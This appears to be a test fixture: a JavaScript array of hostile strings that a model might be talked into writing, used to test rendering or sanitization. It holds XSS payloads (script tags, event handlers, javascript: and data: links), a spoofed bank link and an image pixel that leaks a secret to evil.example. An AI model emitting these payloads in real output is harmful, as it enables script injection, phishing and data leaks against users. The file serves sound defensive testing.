// Attacks by what is written, each a text of its own.
/** What a model may be talked into writing. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>)',
  '[d](vbscript:x) [e](//evil.example/x) [f](https://evil.example) <https://evil.example/auto>',
  '[g](mailto:a@b.example) [http://bank.example](http://evil.example)',
  '![pixel](https://evil.example/leak.png?q=secret) ![x](javascript:alert(1))',
  '<svg onload=alert(1)><style>*{display:none}</style>',
  '$\\href{javascript:alert(1)}{x}$ and $\\url{javascript:alert(1)}$',
  '```html\n<script>alert(1)</script>\n```',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  'the end of it',
];
